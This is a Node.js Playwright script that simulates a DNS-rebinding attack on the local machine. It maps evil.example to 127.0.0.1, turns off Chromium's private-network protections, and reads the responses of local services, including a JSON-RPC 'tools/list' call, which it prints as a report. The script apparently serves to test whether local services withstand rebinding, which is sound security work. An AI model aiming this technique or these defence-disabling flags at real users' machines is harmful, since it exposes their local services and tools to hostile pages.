// A page that rebinds its name, in the machine's Chromium: node rebinding.mjs <url>... Prints what it could read as JSON.
// The page comes from http://evil.example:PORT; then that name means this machine, so that the browser takes its requests to the
// service at PORT for the page's own, and shows it the answers. For each URL, with the methods and headers that such a page may use.
import { existsSync } from 'node:fs';
import { chromium } from 'playwright-core';

const program = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync);
const browser = await chromium.launch({ executablePath: program, args: ['--no-sandbox', '--host-resolver-rules=MAP evil.example 127.0.0.1', '--no-proxy-server',
  // The browser's own defence, so that it is the services' that is seen.
  '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults'] });
const report = [];
for (const url of process.argv.slice(2).map(text => new URL(text))) {
  const page = await browser.newPage();
  const origin = `http://evil.example:${url.port}`;
  await page.route(`${origin}/evil-page`, route => route.fulfill({ contentType: 'text/html', body: '<title>evil</title>' }));
  await page.goto(`${origin}/evil-page`);
  const answers = await page.evaluate(async path => {
    const asked = [
      ['GET', {}],
      ['POST', { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' }],
    ];
    return Promise.all(asked.map(async ([method, headers]) => {
      try {
        const body = method === 'POST' ? '{"jsonrpc":"2.0","id":1,"method":"tools/list"}' : undefined;
        const response = await fetch(path, { method, headers, body });
        return { method, status: response.status, at: response.url, text: (await response.text()).slice(0, 300) };
      } catch (failed) {
        return { method, status: 0, at: path, text: `${failed}` };
      }
    }));
  }, url.pathname + url.search);
  report.push(...answers.map(answer => ({ url: url.href, ...answer })));
  await page.close();
}
await browser.close();
console.log(JSON.stringify(report));
